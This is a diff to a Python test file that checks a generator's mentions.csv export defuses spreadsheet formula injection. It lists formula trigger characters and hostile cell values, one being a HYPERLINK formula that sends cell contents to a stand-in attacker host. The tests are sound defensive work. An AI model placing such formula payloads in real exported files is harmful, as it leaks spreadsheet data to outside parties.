@@ -18,7 +18,7 @@ from urllib.parse import urljoin, urlparse
 import pytest
 import yaml
 
-from generator.exports import FORMULA_TRIGGERS, MENTION_COLUMNS, mentions_csv, network_gexf, render_data_exports
+from generator.exports import MENTION_COLUMNS, mentions_csv, network_gexf, render_data_exports
 from generator.model import ACTOR_TYPES, Archive
 
 REPO = Path(__file__).resolve().parents[1]
@@ -346,17 +346,42 @@ def test_mentions_csv_keeps_commas_quotes_and_line_breaks_intact(archive):
     assert [(r["actor_name"], r["sentence"]) for r in rows] == [('Putin, "V."', tricky)] * 2
 
 
-@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
-def test_mentions_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(archive, hostile):
+# Written out here, not taken from generator.exports: the first characters that make a spreadsheet run a cell as a
+# formula, from OWASP's CSV Injection page (=, +, -, @, tab, carriage return), and NUL, which ASVS adds.
+SPREADSHEET_FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\x00"]
+HOSTILE_CELLS = [
+    *(trigger + "1+1" for trigger in SPREADSHEET_FORMULA_TRIGGERS),
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\x00=1+1",
+]
+
+
+def first_row_with_text(archive: Archive, text: str) -> dict:
+    """The first mentions.csv row after every field of Putin a file can fill (name, mention, sentence) is `text`."""
     actor = next(a for a in archive.actors if a.slug == "vladimir-putin")
-    mentions = tuple(dataclasses.replace(m, text=hostile, sentence=hostile + " said the sentence.") for m in actor.mentions)
-    changed = dataclasses.replace(actor, name=hostile, mentions=mentions)
-    row = read_csv(mentions_csv(dataclasses.replace(archive, actors=(changed,))))[0]
-    for column in ("actor_name", "text", "sentence"):
-        assert row[column].startswith("'") and row[column][1:].startswith(hostile), column
-        assert not row[column].startswith(FORMULA_TRIGGERS)
+    mentions = tuple(dataclasses.replace(m, text=text, sentence=text + " said the sentence.") for m in actor.mentions)
+    changed = dataclasses.replace(actor, name=text, mentions=mentions)
+    return read_csv(mentions_csv(dataclasses.replace(archive, actors=(changed,))))[0]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_CELLS, ids=repr)
+def test_mentions_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(archive, hostile):
+    row = first_row_with_text(archive, hostile)
+    assert (row["actor_name"], row["text"], row["sentence"]) == ("'" + hostile, "'" + hostile, "'" + hostile + " said the sentence.")
     # Ordinary text is left as it is.
     assert row["actor_slug"] == "vladimir-putin" and row["start"].isdigit()
+
+
+def test_every_formula_trigger_is_neutralised_and_only_at_the_start_of_a_cell(archive):
+    for trigger in SPREADSHEET_FORMULA_TRIGGERS:
+        assert first_row_with_text(archive, trigger + "A1")["actor_name"] == "'" + trigger + "A1", repr(trigger)
+        # Inside a cell the same character is harmless, and the text is kept exactly.
+        assert first_row_with_text(archive, "A" + trigger + "1")["actor_name"] == "A" + trigger + "1", repr(trigger)
+    assert first_row_with_text(archive, "'quoted")["actor_name"] == "'quoted"
 
 
 def test_network_gexf_reads_back_in_networkx_with_actors_and_shared_article_weights(archive, tmp_path):
